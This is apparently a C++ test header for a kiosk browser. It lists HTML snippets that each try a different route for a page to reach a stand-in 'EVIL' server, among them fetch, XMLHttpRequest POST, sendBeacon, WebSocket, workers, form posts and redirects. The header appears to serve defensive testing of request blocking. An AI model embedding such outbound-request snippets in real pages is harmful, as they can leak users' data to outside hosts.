// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include "Stage.h"

namespace kiosk
{

/// A page that tries one way out when it is clicked or when it loads. EVIL stands for the other server.
struct Way {
    const char *name;
    const char *html;
    bool mainFrame = false;
    /// Qt 6.4.2 sends a resource's redirect on its way although the hooks refuse it.
    enum class Hooks { StopIt, ComeTooLate } hooks = Hooks::StopIt;
};

inline constexpr Way ways[] = {
    {"frame", "<iframe src=EVIL/x></iframe>"},
    {"object", "<object data=EVIL/x></object>"},
    {"embed", "<embed src=EVIL/x>"},
    {"script", "<script src=EVIL/x.js></script>"},
    {"module", "<script type=module>import 'EVIL/x.js'</script>"},
    {"picture", "<img src=EVIL/x.png>"},
    {"picture set", "<img srcset='EVIL/x.png 1x'>"},
    {"style sheet", "<link rel=stylesheet href=EVIL/x.css>"},
    {"style import", "<style>@import 'EVIL/x.css'</style>"},
    {"background", "<body style='background:url(EVIL/x.png)'>"},
    {"font", "<style>@font-face{font-family:x;src:url(EVIL/x.woff)}p{font-family:x}</style><p>text"},
    {"icon", "<link rel='icon preload' as=image href=EVIL/x.ico>"},
    {"fetch", "<script>fetch('EVIL/x')</script>"},
    {"fetch without cors", "<script>fetch('EVIL/x', {mode: 'no-cors', keepalive: true})</script>"},
    {"request", "<script>const r = new XMLHttpRequest; r.open('POST', 'EVIL/x'); r.send('a')</script>"},
    {"beacon", "<script>navigator.sendBeacon('EVIL/x', 'a')</script>"},
    {"event source", "<script>new EventSource('EVIL/x')</script>"},
    {"socket", "<script>new WebSocket('EVIL/x'.replace('http', 'ws'))</script>"},
    {"prefetch", "<link rel=prefetch href=EVIL/x>"},
    {"preload", "<link rel=preload as=script href=EVIL/x.js>"},
    {"module preload", "<link rel=modulepreload href=EVIL/x.js>"},
    {"video", "<video src=EVIL/x.mp4 autoplay muted></video>"},
    {"sound", "<audio src=EVIL/x.mp3 preload=auto></audio>"},
    {"worker", "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/x', {mode: 'no-cors'})\"])))</script>"},
    {"worker import", "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('EVIL/x.js')\"])))</script>"},
    {"worker socket",
     "<script>new Worker(URL.createObjectURL(new Blob([\"new WebSocket('EVIL/x'.replace('http', 'ws'))\"])))</script>"},
    {"form in a frame",
     "<iframe name=f></iframe><form method=post target=f action=EVIL/x></form>"
     "<script>document.forms[0].submit()</script>"},
    {"redirected picture", "<img src=/away>", false, Way::Hooks::ComeTooLate},
    {"redirected frame", "<iframe src=/away></iframe>"},
    {"redirected fetch", "<script>fetch('/away', {mode: 'no-cors'})</script>", false, Way::Hooks::ComeTooLate},
    {"policy report",
     "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\"><img src=EVIL/x.png>"
     "<script>fetch('EVIL/x', {mode: 'no-cors'})</script>"},
    {"location", "<script>location = 'EVIL/x'</script>", true},
    {"refresh", "<meta http-equiv=refresh content='0;url=EVIL/x'>", true},
    {"form", "<form method=post action=EVIL/x><input name=a value=b></form><script>document.forms[0].submit()</script>",
     true},
    {"redirect", "<script>location = '/away'</script>", true},
    {"two redirects", "<script>location = '/further'</script>", true},
    {"posted and redirected", "<form method=post action=/away307></form><script>document.forms[0].submit()</script>",
     true},
    {"link", "<a id=a href=EVIL/x>x</a><script>a.click()</script>", true},
    {"frame to top", "<iframe srcdoc=\"<script>top.location = 'EVIL/x'</script>\"></iframe>", true},
};

/// A page on \a server that goes this way to \a evil.
inline void laySite(const Way &way, LocalServer &server, const LocalServer &evil)
{
    const auto target = evil.url(QStringLiteral("id.localhost"), QStringLiteral("/x"));
    server.redirect(QStringLiteral("/away"), target);
    server.redirect(QStringLiteral("/away307"), target, 307);
    server.redirect(QStringLiteral("/further"), server.url(QStringLiteral("bank.localhost"), QStringLiteral("/away")));
    server.page(QStringLiteral("/"),
                QByteArray(way.html).replace("EVIL", evil.at("id.localhost", "")) + sayScript
                    + "<script>onload = () => say('loaded')</script>");
}

} // namespace kiosk
